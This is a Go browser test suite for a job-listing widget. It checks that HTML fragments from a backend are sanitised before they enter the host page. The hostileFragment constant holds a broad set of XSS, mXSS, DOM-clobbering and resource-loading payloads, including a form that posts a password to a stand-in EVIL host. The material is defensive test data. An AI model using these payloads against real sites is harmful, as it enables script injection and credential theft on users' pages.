package browsertest

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
)

// hostileFragment is what a server would answer that means the host page ill.
// EVIL is where it would send what it gets; whatever runs says so in window.hit.
const hostileFragment = `<base href="EVIL/"><meta http-equiv="refresh" content="0;url=EVIL/refresh"><title>Kapad</title>
<link rel="stylesheet" href="EVIL/style.css"><script>hit("script")</script><script src="EVIL/script.js"></script>
<style>body, h1, .jn { display: none !important }</style>
<div class="jn host kapad" style="position:fixed;inset:0;background:url(EVIL/style)" id="canary" onclick="hit('onclick')" onpointerenter="hit('pointer')">
<h2 class="jn-total" tabindex="1" autofocus onfocus="hit('onfocus')" contenteditable slot="x" part="y">Rubrik</h2>
<img src="EVIL/img" onerror="hit('onerror')" srcset="EVIL/srcset"><img src="x:" onerror="hit('onerror')"><picture><source srcset="EVIL/source"></picture>
<svg onload="hit('svg')"><script>hit("svg script")</script><style>h1 { color: red }</style><use href="EVIL/use.svg#a"></use><animate attributeName="href" values="javascript:hit('smil')"/><a href="javascript:hit('svg a')"><text>svg</text></a><foreignObject><iframe src="EVIL/foreign"></iframe></foreignObject></svg>
<math><maction actiontype="statusline#javascript:hit('math')" xlink:href="javascript:hit('math')">m</maction></math>
<iframe src="EVIL/frame"></iframe><iframe srcdoc="<script>parent.hit('srcdoc')</script>"></iframe><object data="EVIL/object"></object><embed src="EVIL/embed">
<video src="EVIL/video" autoplay onerror="hit('video')" poster="EVIL/poster"></video><audio src="EVIL/audio" autoplay></audio>
<template shadowrootmode="open"><script>hit("template")</script></template><noscript><p title="</noscript><img src=x: onerror=hit('noscript')>"></p></noscript>
<textarea></textarea><xmp><script>hit("xmp")</script></xmp><portal src="EVIL/portal"></portal><marquee onstart="hit('marquee')">m</marquee>
<details open ontoggle="hit('toggle')"><summary>s</summary></details><jobbnara-jobs onclick="hit('nested')"></jobbnara-jobs><x-host></x-host>
<p><a id="js" class="jn-x" href="javascript:hit('href')">javascript</a> <a class="jn-go" id="go" href="javascript:hit('go')">javascript jn-go</a>
<a id="ws" href=" &#1;java&#10;script:hit('spaced')">javascript</a> <a id="data" href="data:text/html,<script>hit('data')</script>">data</a> <a id="ping" href="#x" ping="EVIL/ping" download>ping</a></p>
<form id="elsewhere" action="EVIL/form" method="post" target="_self"><input type="hidden" name="stulet" value="1"><input type="password" name="losen" autocomplete="current-password"><button id="send" formaction="EVIL/formaction" form="hostform">Skicka</button></form>
<form id="javascript" action="javascript:hit('action')"><button id="run">Kör</button></form>
<a name="hit">n</a><form name="location"><input name="q"></form><input id="cookie"><span id="hit">id</span><label for="hostinput">l</label>
<p hidden id="end">slut</p></div>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit('mxss')&gt;"></style></mglyph></table></mtext></math>`

// A server behind a frozen script can show text and links in the host's page,
// and nothing else: no code, no request, no other look.
func TestHostileFragment(t *testing.T) {
	s := startSamples(t)
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		t.Errorf("the page asked for %s", r.URL)
	}))
	t.Cleanup(evil.Close)
	front := fakeServer(t, s, strings.ReplaceAll(hostileFragment, "EVIL", evil.URL))
	h := host(t, "", embedded(front.URL, `<p class="host" id="before">Innan</p><form id="hostform"><input id="hostinput"></form><jobbnara-jobs></jobbnara-jobs>
		<script>window.hits = []; function hit(how) { hits.push(how) }; customElements.define("x-host", class extends HTMLElement { connectedCallback() { hit("another element") } })</script>`))
	inEachBrowser(t, settings{}, func(t *testing.T, b browser) {
		p := b.newTab(t)
		p.open(h.URL)
		looks := `JSON.stringify([...document.querySelectorAll("body, h1, #before, #hostinput")].map(e => { const s = getComputedStyle(e); return [s.display, s.color, s.position, s.fontSize, s.backgroundImage] }))`
		before := value[string](t, p, looks)
		untilTrue(t, p, "document.querySelector('jobbnara-jobs').textContent.includes('slut')")

		for _, id := range []string{"js", "go", "ws", "data", "ping", "send", "run"} {
			css := `jobbnara-jobs [id$="-` + id + `"]`
			if value[bool](t, p, "!!document.querySelector('"+css+"')") {
				p.click(css)
			}
		}
		p.keys("\t\t\n")
		untilTrue(t, p, "document.readyState == 'complete' && !document.querySelector('jobbnara-jobs').hasAttribute('aria-busy')")

		if hits := value[[]string](t, p, "hits"); len(hits) > 0 {
			t.Errorf("code of the server ran: %q", hits)
		}
		if got := value[string](t, p, "location.href.replace(/#.*/, '') + ' ' + document.title"); got != h.URL+"/ Prov" {
			t.Errorf("the page has become %s", got)
		}
		if after := value[string](t, p, looks); after != before {
			t.Errorf("the host looks like %s, not %s", after, before)
		}
		alien := `[...document.querySelectorAll("jobbnara-jobs *")].filter(e =>
			/script|style|img|svg|math|iframe|object|embed|video|audio|link|meta|base|template|textarea|-/i.test(e.tagName) ||
			[...e.attributes].some(a => /^(on|style|src|srcset|srcdoc|form|ping|contenteditable|autofocus|slot|part)/.test(a.name) || a.name == "tabindex" && a.value != "-1" /* our script's own, where the focus goes */ ||
				/^(href|action)$/.test(a.name) && !/^(https?:|#jn)/.test(a.value) || /^(id|for)$/.test(a.name) && !a.value.startsWith("jn") ||
				a.name == "class" && a.value.split(" ").some(c => c && !c.startsWith("jn"))) ||
			e.matches("form") && e.hasAttribute("action") && new URL(e.getAttribute("action")).origin != "` + front.URL + `").map(e => e.outerHTML)`
		if left := value[[]string](t, p, alien); len(left) > 0 {
			t.Errorf("let through: %q", left)
		}
		if clobbered := value[[]string](t, p, "[typeof hit, typeof document.location.href, typeof document.cookie]"); fmt.Sprint(clobbered) != "[function string string]" {
			t.Errorf("the page's own names are %q", clobbered)
		}
		wantNothingKept(t, p, p, true)
		wantQuiet(t, p, nil, h.URL, s.url, front.URL)
	})
}

// A form can hide its own properties behind its fields, which trips whoever
// reads it: nothing gets through then, or all as it should.
func TestClobberedFragment(t *testing.T) {
	s := startSamples(t)
	inEachBrowser(t, settings{}, func(t *testing.T, b browser) {
		p := b.newTab(t)
		for _, name := range []string{"childNodes", "nodeName", "nodeType", "attributes", "tagName", "append", "data", "setAttribute"} {
			front := fakeServer(t, s, `<div class="jn"><form onclick="hit('onclick')"><input name="`+name+`"><img src="x:" onerror="hit('onerror')"><a href="javascript:hit('href')">x</a></form><p>slut</p></div>`)
			p.open(host(t, "", embedded(front.URL, `<jobbnara-jobs></jobbnara-jobs><script>window.hits = []; function hit(how) { hits.push(how) }</script>`)).URL)
			untilTrue(t, p, "/slut|går inte att visa/.test(document.querySelector('jobbnara-jobs').textContent)")
			if left := value[int](t, p, "hits.length + document.querySelectorAll('jobbnara-jobs :is(img, [onclick], [href^=javascript])').length"); left > 0 {
				t.Errorf("%s: %d of what is not allowed got through", name, left)
			}
		}
	})
}

// fakeServer serves the real script and an own fragment.
func fakeServer(t *testing.T, s *server, fragment string) *httptest.Server {
	t.Helper()
	front := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Access-Control-Allow-Origin", "*")
		if r.URL.Path == "/widget/v1/list" {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			_, _ = io.WriteString(w, fragment)
			return
		}
		answer, err := http.Get(s.url + "/widget/v1/jobbnara.js")
		if err != nil {
			t.Error(err)
			return
		}
		defer answer.Body.Close()
		w.Header().Set("Content-Type", "text/javascript")
		_, _ = io.Copy(w, answer.Body)
	}))
	t.Cleanup(front.Close)
	return front
}
